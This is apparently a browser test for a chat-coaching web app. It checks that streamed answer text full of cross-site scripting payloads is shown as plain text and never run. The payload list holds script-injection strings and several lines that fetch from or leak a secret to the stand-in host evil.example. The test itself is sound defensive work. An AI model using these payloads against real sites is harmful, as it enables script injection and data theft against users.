"""A tag that is split over pieces, an address that is a program, a drawing that loads: all stay text (12)."""

from collections.abc import Callable
from uuid import uuid4

import pytest
from django.utils import timezone
from playwright.sync_api import Page, expect

from careerforge.people.models import User
from coaching.answers.answer import Source
from coaching.chat import asking, conversations, writers
from coaching.chat import generation as life
from coaching.chat.generation import Pen, State
from coaching.chat.pieces import Kind, Piece
from coaching.chat.writing import Made
from tests.browser.conftest import Site

QUESTION = "Which skill should I build first?"
PIECES = (
    "First <scr",
    "ipt>alert(1)</script> and <svg/onload=alert(2)>",
    "<img src=x onerror=alert(3)> or [more](javascript:alert(4))",
    "<a href='javascript:alert(5)'>here</a> <iframe srcdoc='<script>alert(6)</script>'></iframe>",
    '"><template hx-get="https://evil.example/x" hx-trigger="load"></template>',
    "<style>@import 'https://evil.example/y.css'</style> ![x](https://evil.example/z.png?d=secret)",
)
SOURCE = Source(
    "<b onclick=alert(7)>Ladder</b>", "<img src=https://evil.example/w.png>", None, "/skills/", PIECES[2]
)


@pytest.fixture
def begun(site: Site, monkeypatch: pytest.MonkeyPatch) -> tuple[str, Pen]:
    """The address of a conversation whose answer is being written, and the pen that it is written with."""
    monkeypatch.setattr(writers, "start", lambda *_ids, **_how: None)
    with site.rows():
        owner = User.objects.select_related("organisation", "profile").get(username="emp-backend")
        stored = asking.ask(owner, QUESTION, uuid4(), timezone.now())
        assert isinstance(stored, asking.Stored)
        held = conversations.key_of(owner)
        assert held
        pen = life.take_up(stored.message.generation, *held, timezone.now())
        assert pen
    return f"/chat/{stored.message.conversation_id}/", pen


def test_text_is_shown_and_nothing_is_run_or_fetched(
    begun: tuple[str, Pen], window: Callable[..., Page], site: Site
) -> None:
    address, pen = begun
    page = window("emp-backend")
    page.goto(address)
    expect(page.locator("[data-stream]")).to_be_visible()
    for place, text in enumerate(PIECES):
        kind = Kind.SENTENCE if place % 2 else Kind.NOTE
        with site.rows():
            assert pen.add(Piece(kind, text, (SOURCE,) if place % 2 else ()), timezone.now())
    for text in PIECES:
        expect(page.locator(".cf-ans").last).to_contain_text(text)
    with site.rows():
        assert pen.end(State.DONE, Made(), timezone.now())
    # The server's own markup of the answer takes the place of what came in pieces.
    expect(page.locator("[data-stream]")).to_have_count(0)
    expect(page.locator(".cf-ans").last).to_contain_text("alert(2)")
    assert page.locator(".cf-ans script, .cf-ans img, .cf-ans iframe, .cf-ans style").count() == 0
    assert page.locator("a[href^='javascript'], a[href*='evil.example']").count() == 0
